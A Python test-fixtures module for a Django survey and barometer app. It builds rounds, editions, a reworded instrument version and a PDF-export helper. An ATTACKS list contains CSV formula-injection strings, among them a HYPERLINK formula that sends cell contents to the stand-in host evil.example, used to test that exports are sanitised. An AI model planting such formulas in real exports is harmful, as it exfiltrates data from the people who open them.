"""Fixtures for reports and exports: the four-party round (samson.testing.rounds) with free
text, and the small barometer edition (samson.testing.barometer) with its population frame."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from django.urls import reverse

from samson.barometer.models import Edition
from samson.instrument_spec import load_instrument_data
from samson.instruments.models import InstrumentVersion
from samson.instruments.selectors import instrument_version_get
from samson.instruments.services import instrument_store
from samson.testing.barometer import small_edition
from samson.testing.rounds import four_party_round

FREE_TEXT = "Godt samarbeid om møtene"


@pytest.fixture
def four_parties(world):
    """The four-party round of samson.testing.rounds, one answer with free text."""
    return four_party_round(world, free_text=FREE_TEXT)


@pytest.fixture
def edition(instruments: None) -> Edition:
    """The small edition with its population frame (samson.testing.barometer)."""
    return small_edition()


def samson_v3() -> InstrumentVersion:
    """Version 3 of the full instrument (the shipped one is 2): LIK-PRB-1 reworded, as a new
    version must be."""
    shipped = instrument_version_get(key="samson", version=2)
    data: dict[str, Any] = copy.deepcopy(shipped.spec)
    data["version"] = 3
    for page in data["pages"]:
        for item in page["items"]:
            if item["id"] == "LIK-PRB-1":
                item["text"] = {
                    "nb": "Alle parter fikk like mye plass da problemet ble beskrevet.",
                    "nn": "Alle partar fekk like mykje plass då problemet vart skildra.",
                    "en": "Every party had as much room when the problem was described.",
                }
    version, _decision = instrument_store(loaded=load_instrument_data(data, source="test v2"))
    return version


def round_url(name: str, round: Any, **kwargs: Any) -> str:
    return reverse(name, kwargs={"project_pk": round.project_id, "round_pk": round.pk, **kwargs})


# Text a spreadsheet would run as a formula (OWASP's CSV injection), for the export tests.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def edition_pdf_made(client: Any, edition: Any, query: str = "") -> Any:
    """Ask for an edition's PDF on its page, let the job run (as the worker does), and fetch
    the file. The job is run here directly: outside a transactional test the request's
    enqueueing after the commit never happens."""
    from samson.reports.models import EditionPdf
    from samson.reports.services import edition_pdf_render

    page = reverse("barometer_reports:report_pdf", kwargs={"pk": edition.pk}) + query
    assert client.post(page)["Location"] == page
    pdf = EditionPdf.objects.get(edition=edition)
    assert edition_pdf_render(pk=pdf.pk, attempt=pdf.attempt) == EditionPdf.State.READY
    file = reverse("barometer_reports:report_pdf_file", kwargs={"pk": edition.pk})
    return client.get(file + query)
